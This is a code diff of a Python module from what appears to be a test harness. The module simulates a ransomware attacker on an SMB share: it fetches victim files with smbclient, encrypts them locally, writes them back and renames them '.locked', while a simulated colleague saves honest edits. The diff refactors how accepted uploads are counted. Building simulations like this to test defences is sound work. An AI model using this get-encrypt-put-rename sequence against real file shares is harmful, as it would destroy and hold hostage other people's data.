@@ -5,12 +5,13 @@ encrypts (get, encrypt, put back, rename), the other works honestly: its edits m
 """
 
 import contextlib
-import hashlib
 import os
+import re
 import shutil
 import subprocess
 import threading
 import time
+from collections.abc import Iterable, Iterator
 from datetime import UTC, datetime
 from pathlib import Path
 
@@ -38,6 +39,8 @@ from releve.model.proof import AttackResult
 
 _READY_SECONDS = 60.0
 _SESSION_SECONDS = 40.0
+_REACH_SECONDS = 15.0
+_PUT = re.compile(r".*putting file .* as (\\.*) \([\d.,]+ kb/s\) \(average")
 _VICTIMS, _EDITS = 60, 30
 
 
@@ -129,10 +132,7 @@ def _encrypt(person: Person, field: Field, victims: list[Path], scope: int) -> N
     """Get all, encrypt here, then put each back and rename it, in one connection."""
     local = field.work / "poste"
     local.mkdir(exist_ok=True)
-    names = {
-        str(path.relative_to(field.share)).replace("/", "\\"): local / f"{k}"
-        for k, path in enumerate(victims)
-    }
+    names = {_name(path, field): local / f"{k}" for k, path in enumerate(victims)}
     reading = _session(person, scope, [f'get "{name}" {copy}' for name, copy in names.items()])
     _finish(reading)
     for copy in names.values():
@@ -142,51 +142,47 @@ def _encrypt(person: Person, field: Field, victims: list[Path], scope: int) -> N
     for name, copy in names.items():
         orders += [f'put {copy} "{name}"', f'rename "{name}" "{name}.locked"']
     writing = _session(person, scope, orders)
-    found = {name: field.share / name.replace("\\", "/") for name in names}
-    _count(writing, field, found)
+    for name in _taken(writing, names):
+        field.destroying(field.share / name.replace("\\", "/"))
 
 
-def _count(writing: subprocess.Popen[str], field: Field, found: dict[str, Path]) -> None:
-    """Smbclient says each `put` that the server took: those originals are touched."""
-    deadline = threading.Timer(_SESSION_SECONDS, writing.kill)
+def _taken(session: subprocess.Popen[str], names: Iterable[str]) -> Iterator[str]:
+    """The names whose `put` the server took, as smbclient says them; ends with the session."""
+    deadline = threading.Timer(_SESSION_SECONDS, session.kill)
     deadline.start()
-    for line in writing.stdout or ():
-        if "putting file" in line:
-            name = next((name for name in found if name.rsplit("\\", 1)[-1] in line), None)
-            if name is not None:
-                field.destroying(found[name])
+    known = {f"\\{name}": name for name in names}
+    for line in session.stdout or ():
+        said = _PUT.match(line)
+        if said and said[1] in known:
+            yield known[said[1]]
     deadline.cancel()
-    writing.wait()
+    session.wait()
 
 
 def _work(person: Person, field: Field, letters: list[Path], scope: int) -> None:
-    """The colleague: 30 letters saved one after the other, each in a connection of its own session."""
+    """The colleague: 30 letters read, completed and saved, one after the other."""
     local = field.work / "collegue"
     local.mkdir(exist_ok=True)
-    saves = {}
+    saves: dict[str, tuple[Path, Path]] = {}
     for number, path in enumerate(letters):
         copy = local / f"{number}"
         copy.write_bytes(path.read_bytes() + f"\nRevu le {number + 1} mars.\n".encode())
-        saves[path] = copy
-    orders = [
-        f'put {copy} "{str(path.relative_to(field.share)).replace("/", chr(92))}"'
-        for path, copy in saves.items()
-    ]
-    session = _session(person, scope, orders)
-    _finish(session)
-    for path, copy in saves.items():
-        if (
-            path.exists()
-            and hashlib.sha256(path.read_bytes()).digest()
-            == hashlib.sha256(copy.read_bytes()).digest()
-        ):
-            field.saved(path, copy.read_bytes())
+        saves[_name(path, field)] = (path, copy)
+    orders = [f'put {copy} "{name}"' for name, (_, copy) in saves.items()]
+    for name in _taken(_session(person, scope, orders), saves):
+        path, copy = saves[name]
+        field.saved(path, copy.read_bytes())
+
+
+def _name(path: Path, field: Field) -> str:
+    """As smbclient writes it."""
+    return str(path.relative_to(field.share)).replace("/", "\\")
 
 
 def _can_reach(person: Person, scope: int) -> bool:
     words = ["nsenter", "--target", str(scope), "--pid", *person.smbclient("ls")]
     try:
-        done = subprocess.run(words, capture_output=True, check=False, timeout=6)
+        done = subprocess.run(words, capture_output=True, check=False, timeout=_REACH_SECONDS)
     except subprocess.TimeoutExpired:
         return False
     return done.returncode == 0
